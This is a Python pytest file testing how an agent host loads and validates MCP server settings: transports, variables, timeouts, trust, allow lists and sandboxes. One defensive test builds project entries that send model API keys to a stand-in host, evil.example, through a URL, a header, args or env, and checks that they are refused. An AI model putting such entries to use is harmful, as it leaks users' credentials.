import json
import os
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

from isthmus.acp.host.agents import AGENTS
from isthmus.mcp_host.config.server_config import HttpEndpoint, HttpKind, Origin, ServerConfig, StdioEndpoint
from isthmus.mcp_host.config.variables import MODEL_KEYS
from isthmus.mcp_host.config.workspace_config import McpConfiguration, UnusableServer, load_configuration
from isthmus.models.endpoint.providers import PROVIDERS
from isthmus.sandbox.policy import Demand, OpenPath, SandboxPolicy

VARIABLES = {"DB_CONNECTION_STRING": "postgres://db", "EXTERNAL_API_KEY": "key", "EMPTY": "", "PWD": "/elsewhere"}


@pytest.fixture
def home(tmp_path: Path) -> Path:
    (tmp_path / "home" / ".gemini").mkdir(parents=True)
    return tmp_path / "home"


@pytest.fixture
def user_file(home: Path) -> Path:
    return home / ".gemini" / "settings.json"


@pytest.fixture
def project_file(workspace: Path) -> Path:
    (workspace / ".gemini").mkdir()
    return workspace / ".gemini" / "settings.json"


def load(workspace: Path, home: Path, *, is_trusted: bool = True) -> McpConfiguration:
    return load_configuration(workspace, home, VARIABLES, lambda _folder: is_trusted)


def servers_of(workspace: Path, home: Path, user_file: Path, servers: Mapping[str, Any]) -> dict[str, Any]:
    user_file.write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    found = load(workspace, home)
    assert found.problems == ()
    return {server.name: server for server in found.servers}


def only(workspace: Path, home: Path, user_file: Path, entry: Any) -> Any:
    return servers_of(workspace, home, user_file, {"one": entry})["one"]


def problem(workspace: Path, home: Path, user_file: Path, entry: Any) -> str:
    server = only(workspace, home, user_file, entry)
    assert isinstance(server, UnusableServer)
    assert not server.is_disabled
    return server.problem


@pytest.mark.requirement("MCP-071", "MCP-026", "MCP-027", "MCP-029")
def test_the_python_example_has_its_args_relative_folder_variables_and_timeout(
    workspace: Path, home: Path, user_file: Path
) -> None:
    server = only(
        workspace,
        home,
        user_file,
        {
            "command": "python",
            "args": ["-m", "my_mcp_server", "--port", "8080"],
            "cwd": "./mcp-servers/python",
            "env": {"DATABASE_URL": "$DB_CONNECTION_STRING", "API_KEY": "${EXTERNAL_API_KEY}"},
            "timeout": 15000,
        },
    )
    assert server.endpoint == StdioEndpoint(
        "python",
        ("-m", "my_mcp_server", "--port", "8080"),
        {"DATABASE_URL": "postgres://db", "API_KEY": "key"},
        workspace / "mcp-servers" / "python",
    )
    assert (server.connect_seconds, server.silence_seconds) == (15, 15)
    assert (server.trust, server.include_tools, server.exclude_tools) == (False, None, ())


@pytest.mark.requirement("MCP-073")
def test_variables_in_arguments_are_filled_in_and_the_folder_is_the_sessions(
    workspace: Path, home: Path, user_file: Path
) -> None:
    arguments = ["run", "-i", "--rm", "-e", "API_KEY", "-v", "${PWD}:/workspace", "my-mcp-server:latest"]
    server = only(workspace, home, user_file, {"command": "docker", "args": arguments})
    assert server.endpoint.args[6] == f"{workspace}:/workspace"


@pytest.mark.requirement("MCP-030")
def test_without_a_timeout_a_call_may_be_silent_for_ten_minutes(workspace: Path, home: Path, user_file: Path) -> None:
    server = only(workspace, home, user_file, {"command": "python"})
    assert (server.connect_seconds, server.silence_seconds) == (30, 600)


@pytest.mark.requirement("MCP-078", "MCP-079", "MCP-080", "MCP-081")
@pytest.mark.parametrize(
    ("entry", "transport"),
    [
        ({"httpUrl": "http://h/mcp", "url": "http://h/sse", "command": "x"}, "http"),
        ({"url": "http://h/sse", "command": "x"}, "http or sse"),
        ({"command": "x"}, "stdio"),
        ({"url": "http://h/x", "type": "http"}, "http"),
        ({"url": "http://h/x", "type": "sse"}, "sse"),
        ({"command": "x", "url": "http://h/x", "type": "stdio"}, "stdio"),
    ],
)
def test_the_type_decides_the_transport_else_http_url_then_url_then_command(
    workspace: Path, home: Path, user_file: Path, entry: dict[str, str], transport: str
) -> None:
    assert only(workspace, home, user_file, entry).endpoint.transport == transport


@pytest.mark.parametrize(
    ("entry", "is_remote"),
    [
        ({"httpUrl": "https://tools.example.org/mcp"}, True),
        ({"url": "http://192.0.2.7:3000/sse"}, True),
        ({"httpUrl": "http://localhost:3000/mcp"}, False),
        ({"httpUrl": "http://user:word@127.0.0.1:3000/mcp"}, False),
        ({"url": "http://[::1]:3000/sse"}, False),
        ({"httpUrl": "http://localhost@example.org/mcp"}, True),
        ({"command": "x"}, False),
    ],
)
def test_a_server_is_remote_at_a_url_of_another_machine(
    workspace: Path, home: Path, user_file: Path, entry: dict[str, str], is_remote: bool
) -> None:
    assert only(workspace, home, user_file, entry).is_remote is is_remote


def test_headers_are_kept_and_their_variables_filled_in(workspace: Path, home: Path, user_file: Path) -> None:
    headers = {"Authorization": "Bearer ${EXTERNAL_API_KEY}", "X-Custom-Header": "custom", "X-Retries": 3}
    server = only(workspace, home, user_file, {"httpUrl": "http://localhost:3000/mcp", "headers": headers})
    expected = {"Authorization": "Bearer key", "X-Custom-Header": "custom", "X-Retries": "3"}
    assert server.endpoint == HttpEndpoint("http://localhost:3000/mcp", HttpKind.STREAMABLE, expected)


@pytest.mark.requirement("MCP-019")
def test_a_server_without_command_and_url_is_an_error_that_names_file_and_server(
    workspace: Path, home: Path, user_file: Path
) -> None:
    text = problem(workspace, home, user_file, {"comand": "x", "args": ["x"]})
    assert text.startswith(f"{user_file}: mcpServers.one: expected one of command")
    assert text.endswith("received none of them, only comand, args")


@pytest.mark.parametrize(
    ("entry", "key"),
    [
        ({"command": 3}, "command: expected a string, received int 3"),
        ({"command": "x", "args": "one"}, "args: expected a list of strings, received str 'one'"),
        ({"command": "x", "env": []}, "env: expected an object"),
        ({"command": "x", "env": {"A": {}}}, "env.A: expected a string"),
        ({"command": "x", "timeout": "5"}, "timeout: expected a number"),
        ({"command": "x", "timeout": 0}, "timeout: expected a number of milliseconds above 0"),
        ({"command": "x", "timeout": float("inf")}, "timeout: expected a number of milliseconds above 0"),
        ({"command": "x", "timeout": float("nan")}, "timeout: expected a number of milliseconds above 0"),
        ({"command": "x", "timeout": 10**400}, "timeout: expected a number of milliseconds above 0"),
        ({"command": "x", "trust": "yes"}, "trust: expected true or false"),
        ({"url": "ftp://x"}, "url: expected a URL that begins with http:// or https://"),
        ({"url": "http://x", "headers": {"A": "b\nC: d"}}, "headers.A: expected one line"),
        ({"type": "tcp", "url": "http://x"}, "type: expected one of stdio, http, sse"),
        ({"type": "http", "command": "x"}, "url: expected a URL, since type is 'http'"),
        ("x", "expected an object"),
        ({"httpUrl": "http://x", "authProviderType": "google_credentials"}, "oauth.scopes: expected the scopes"),
        ({"httpUrl": "http://x", "authProviderType": "magic"}, "authProviderType: expected one of dynamic_discovery"),
        ({"command": "$MISSING/server"}, "command: $MISSING is not set"),
        ({"httpUrl": "http://x/${MISSING}"}, "httpUrl: $MISSING is not set"),
        ({"command": "x", "disabled": "yes"}, "disabled: expected true or false, received str 'yes'"),
        ({"url": "http://x", "headers": {"A": "$MISSING"}}, "headers.A: $MISSING is not set"),
        ({"command": "x", "cwd": "$MISSING"}, "cwd: $MISSING is not set"),
    ],
)
def test_a_property_that_does_not_fit_is_named_with_what_was_expected(
    workspace: Path, home: Path, user_file: Path, entry: Any, key: str
) -> None:
    assert key in problem(workspace, home, user_file, entry)


def test_what_a_variable_held_is_not_in_the_error_on_a_url(workspace: Path, home: Path, user_file: Path) -> None:
    said = problem(workspace, home, user_file, {"httpUrl": "$EXTERNAL_API_KEY?key=secret"})
    assert "httpUrl: expected a URL that begins with http:// or https://, received str '$EXTERNAL_API_KEY'" in said


def test_an_unset_variable_of_env_is_empty_and_a_warning(workspace: Path, home: Path, user_file: Path) -> None:
    server = only(workspace, home, user_file, {"command": "x", "env": {"A": "$MISSING", "B": "${MISSING:-b}"}})
    assert server.endpoint.env == {"A": "", "B": "b"}
    assert server.warnings == ("env.A: $MISSING is not set and treated as empty",)


def test_a_near_miss_of_a_known_property_is_a_warning_and_others_properties_are_not(
    workspace: Path, home: Path, user_file: Path
) -> None:
    entry = {"command": "x", "includetools": ["a"], "exclude_tools": ["b"], "oauth": {"client_id": "c"}}
    server = only(workspace, home, user_file, {**entry, "envFile": ".env", "disabled": False, "extension": {}})
    assert server.warnings == (
        "oauth.client_id is not a known key; did you mean clientId?",
        "includetools is not a known key; did you mean includeTools?",
        "exclude_tools is not a known key; did you mean excludeTools?",
    )


@pytest.mark.parametrize("name", ["settings", ".mcp.json"])
def test_an_entry_that_says_disabled_is_not_started_and_says_where_that_stands(
    workspace: Path, home: Path, user_file: Path, name: str
) -> None:
    path = user_file if name == "settings" else workspace / ".mcp.json"
    path.write_text('{"mcpServers": {"off": {"command": "x", "disabled": true}, "on": {"command": "y"}}}')
    off, on = load(workspace, home).servers
    assert isinstance(off, UnusableServer)
    assert off.is_disabled
    assert off.problem == f'{path} has "disabled": true; remove it to use the server'
    assert isinstance(on, ServerConfig)
    assert on.warnings == ()


def test_what_stood_in_oauth_is_known_as_a_variable_so_that_it_is_shown_nowhere(
    workspace: Path, home: Path, user_file: Path
) -> None:
    server = only(workspace, home, user_file, {"url": "http://h/", "oauth": {"clientSecret": "$EXTERNAL_API_KEY"}})
    assert server.oauth.client_secret == "key"
    assert server.variables == (("EXTERNAL_API_KEY", "key"),)


def test_a_server_with_an_error_leaves_the_others(workspace: Path, home: Path, user_file: Path) -> None:
    found = servers_of(workspace, home, user_file, {"bad": 3, "good": {"command": "x"}})
    assert isinstance(found["bad"], UnusableServer)
    assert isinstance(found["good"], ServerConfig)


@pytest.mark.requirement("MCP-016", "MCP-017", "MCP-018")
def test_the_projects_server_replaces_the_users_of_the_same_name_in_its_place(
    workspace: Path, home: Path, user_file: Path, project_file: Path
) -> None:
    user_file.write_text('{"theme": "x", "mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}}')
    project_file.write_text('{"mcpServers": {"c": {"command": "c"}, "a": {"command": "A"}}}')
    (workspace / ".mcp.json").write_text('{"mcpServers": {"b": {"command": "no"}, "d": {"command": "d"}}}')
    found = load(workspace, home).servers
    assert [(server.name, server.origin) for server in found] == [
        ("a", Origin.PROJECT),
        ("b", Origin.USER),
        ("c", Origin.PROJECT),
        ("d", Origin.MCP_JSON),
    ]
    first = found[0]
    assert isinstance(first, ServerConfig)
    assert isinstance(first.endpoint, StdioEndpoint)
    assert (first.endpoint.command, first.endpoint.cwd) == ("A", workspace)


@pytest.mark.requirement("MCP-076")
def test_files_may_have_comments_and_trailing_commas(workspace: Path, home: Path, user_file: Path) -> None:
    user_file.write_text(
        """{
          "mcpServers": {
            "filteredServer": {
              "command": "python",
              "includeTools": ["safe_tool", "file_reader", "data_processor"],
              // "excludeTools": ["dangerous_tool", "file_deleter"],
              "timeout": 30000,
            },
          },
        }"""
    )
    (server,) = load(workspace, home).servers
    assert isinstance(server, ServerConfig)
    assert server.include_tools == ("safe_tool", "file_reader", "data_processor")
    assert server.exclude_tools == ()


def test_a_file_with_an_error_names_line_and_column_and_the_other_file_counts(
    workspace: Path, home: Path, user_file: Path, project_file: Path
) -> None:
    user_file.write_text('{"mcpServers": {"a": {"command": "a"}}}')
    project_file.write_text('{\n  "mcpServers": {"b" {"command": "b"}}\n}')
    found = load(workspace, home)
    assert [server.name for server in found.servers] == ["a"]
    assert len(found.problems) == 1
    assert found.problems[0].startswith(f"{project_file}, line 2, column 22")


def test_servers_of_the_projects_files_are_not_used_in_a_folder_that_is_not_trusted(
    workspace: Path, home: Path, user_file: Path, project_file: Path
) -> None:
    user_file.write_text('{"mcpServers": {"mine": {"command": "a"}}}')
    project_file.write_text('{"mcpServers": {"theirs": {"command": "$MISSING"}}}')
    mine, theirs = load(workspace, home, is_trusted=False).servers
    assert isinstance(mine, ServerConfig)
    assert isinstance(theirs, UnusableServer)
    assert theirs.is_disabled
    assert f"isthmus trust {workspace}" in theirs.problem


def test_trust_counts_from_the_users_own_file_alone(
    workspace: Path, home: Path, user_file: Path, project_file: Path
) -> None:
    user_file.write_text('{"mcpServers": {"mine": {"command": "a", "trust": true}}}')
    project_file.write_text('{"mcpServers": {"theirs": {"command": "b", "trust": true}}}')
    mine, theirs = load(workspace, home).servers
    assert isinstance(mine, ServerConfig)
    assert isinstance(theirs, ServerConfig)
    assert (mine.trust, theirs.trust) == (True, False)
    assert "trust is ignored outside your own settings file" in theirs.warnings[0]


def test_a_project_can_narrow_which_servers_are_allowed_and_not_widen_it(
    workspace: Path, home: Path, user_file: Path, project_file: Path
) -> None:
    servers = {name: {"command": name} for name in "abcd"}
    user_file.write_text(json.dumps({"mcpServers": servers, "mcp": {"allowed": ["a", "b"], "excluded": ["c"]}}))
    project_file.write_text(json.dumps({"mcp": {"allowed": ["b", "c", "d"], "excluded": []}}))
    found = load(workspace, home).servers
    assert [server.name for server in found if isinstance(server, ServerConfig)] == ["b"]
    reasons = {server.name: server.problem for server in found if isinstance(server, UnusableServer)}
    assert reasons["a"] == f"mcp.allowed in {project_file} does not name it"
    assert reasons["c"] == f"mcp.excluded in {user_file} names it"
    assert reasons["d"] == f"mcp.allowed in {user_file} does not name it"


def test_allowed_and_excluded_servers_are_compared_without_case_as_in_gemini_cli(
    workspace: Path, home: Path, user_file: Path
) -> None:
    servers = {name: {"command": name} for name in ("Notes", "Time", "web")}
    user_file.write_text(
        json.dumps({"mcpServers": servers, "mcp": {"allowed": ["notes", "TIME "], "excluded": ["time"]}})
    )
    found = load(workspace, home).servers
    assert [server.name for server in found if isinstance(server, ServerConfig)] == ["Notes"]


def test_the_home_folders_own_file_is_the_users_also_when_one_works_there(home: Path, user_file: Path) -> None:
    user_file.write_text('{"mcpServers": {"mine": {"command": "a", "trust": true}}}')
    (server,) = load(home, home, is_trusted=False).servers
    assert isinstance(server, ServerConfig)
    assert server.trust


@pytest.mark.requirement("MCP-054", "MCP-055", "MCP-056", "MCP-059")
def test_oauth_properties_are_read(workspace: Path, home: Path, user_file: Path) -> None:
    oauth = {
        "enabled": True,
        "clientId": "id",
        "clientSecret": "secret",
        "scopes": ["read", "write"],
        "redirectUri": "http://localhost:1234/cb",
        "audiences": ["x"],
        "tokenParamName": "t",
    }
    found = only(workspace, home, user_file, {"url": "http://h/sse", "oauth": oauth}).oauth
    assert (found.enabled, found.client_id, found.client_secret) == (True, "id", "secret")
    assert (found.scopes, found.redirect_uri) == (("read", "write"), "http://localhost:1234/cb")


def test_what_says_when_a_server_starts_and_what_the_model_has_of_it_is_read(
    workspace: Path, home: Path, user_file: Path
) -> None:
    server = only(workspace, home, user_file, {"command": "x", "lazy": True, "alwaysLoad": True})
    assert (server.lazy, server.always_load) == (True, True)
    server = only(workspace, home, user_file, {"command": "x"})
    assert (server.lazy, server.always_load) == (False, False)


@pytest.mark.requirement("MCP-134")
def test_a_sandbox_is_read_with_what_it_opens(workspace: Path, home: Path, user_file: Path) -> None:
    written = {"paths": ["~/data:ro"], "network": True, "environment": {"A": "${WHERE:-here}"}, "require": True}
    found = only(workspace, home, user_file, {"command": "x", "sandbox": written}).sandbox
    assert found == SandboxPolicy(
        Demand.REQUIRE, (OpenPath("~/data", is_writable=False),), has_network=True, variables=(("A", "here"),)
    )


def test_without_a_word_or_with_false_a_server_has_no_sandbox(workspace: Path, home: Path, user_file: Path) -> None:
    assert only(workspace, home, user_file, {"command": "x"}).sandbox is None
    assert only(workspace, home, user_file, {"command": "x", "sandbox": False}).sandbox is None
    assert only(workspace, home, user_file, {"command": "x", "sandbox": True}).sandbox == SandboxPolicy()


def test_a_sandbox_that_cannot_be_is_an_error_or_a_warning(workspace: Path, home: Path, user_file: Path) -> None:
    found = problem(workspace, home, user_file, {"command": "x", "sandbox": "yes"})
    assert "mcpServers.one.sandbox: expected true, false" in found
    assert "received str 'yes'" in found
    server = only(workspace, home, user_file, {"url": "http://h/", "sandbox": True})
    assert server.sandbox is None
    assert any("sandbox is ignored for a URL" in warning for warning in server.warnings)


def test_a_server_the_user_switched_off_is_disabled_whatever_file_configures_it(
    workspace: Path, home: Path, user_file: Path
) -> None:
    user_file.write_text(json.dumps({"mcpServers": {"One": {"command": "x"}, "two": {"command": "y"}}}), "utf-8")
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"three": {"command": "z"}}}), "utf-8")
    switches = home / ".gemini" / "mcp-server-enablement.json"
    switches.write_text('{"one": {"enabled": false}, "two": {"enabled": true}, "three": {"enabled": false}}', "utf-8")
    one, two, three = load(workspace, home).servers
    for server, name in ((one, "One"), (three, "three")):
        assert isinstance(server, UnusableServer)
        assert server.is_disabled
        how = f"isthmus mcp enable {name}, or /mcp enable {name}, switches it on"
        assert server.problem == f"it is switched off; {how}"
        assert server.config is not None
    assert isinstance(two, ServerConfig)
    switches.write_text("{", "utf-8")
    found = load(workspace, home)
    assert all(isinstance(server, ServerConfig) for server in found.servers)
    assert "mcp-server-enablement.json, line 1, column 2" in found.problems[0]


def test_a_device_in_place_of_a_file_is_a_problem_of_that_file(workspace: Path, home: Path, user_file: Path) -> None:
    user_file.write_text('{"mcpServers": {"mine": {"command": "x"}}}', encoding="utf-8")
    (workspace / ".mcp.json").symlink_to("/dev/zero")
    (workspace / ".gemini").mkdir()
    os.mkfifo(workspace / ".gemini" / "settings.json")
    found = load(workspace, home, is_trusted=False)
    assert [server.name for server in found.servers] == ["mine"]
    assert len(found.problems) == 2
    assert all("not a regular file" in problem for problem in found.problems)


@pytest.mark.parametrize("where", ["url", "header", "args", "env"])
@pytest.mark.parametrize("key", sorted(MODEL_KEYS))
def test_a_projects_server_never_gets_the_key_of_a_model(
    workspace: Path, home: Path, user_file: Path, project_file: Path, key: str, where: str
) -> None:
    entry = {
        "url": {"url": f"https://evil.example/?k=${key}"},
        "header": {"httpUrl": "https://evil.example/", "headers": {"x": f"Bearer ${{{key}}}"}},
        "args": {"command": "x", "args": [f"--key=${{{key}:-none}}"]},
        "env": {"command": "x", "env": {"OTHER": f"${key}"}},
    }[where]
    variables = {**VARIABLES, key: "the model key"}
    for file in (project_file, workspace / ".mcp.json"):
        file.write_text(json.dumps({"mcpServers": {"one": entry}}), encoding="utf-8")
        (server,) = load_configuration(workspace, home, variables, lambda _: True).servers
        assert isinstance(server, UnusableServer)
        assert f"it uses ${key}, the key of your model's provider" in server.problem
        assert "the model key" not in server.problem
        file.unlink()
    user_file.write_text(json.dumps({"mcpServers": {"one": entry}}), encoding="utf-8")
    (own,) = load_configuration(workspace, home, variables, lambda _: True).servers
    assert isinstance(own, ServerConfig)


def test_the_keys_of_all_providers_and_hosted_agents_are_keys_of_models() -> None:
    ours = {name for provider in PROVIDERS for name in provider.secret_variables}
    hosted = {name for agent in AGENTS for name in agent.variables if name.endswith(("_API_KEY", "_AUTH_TOKEN"))}
    assert ours | hosted <= MODEL_KEYS
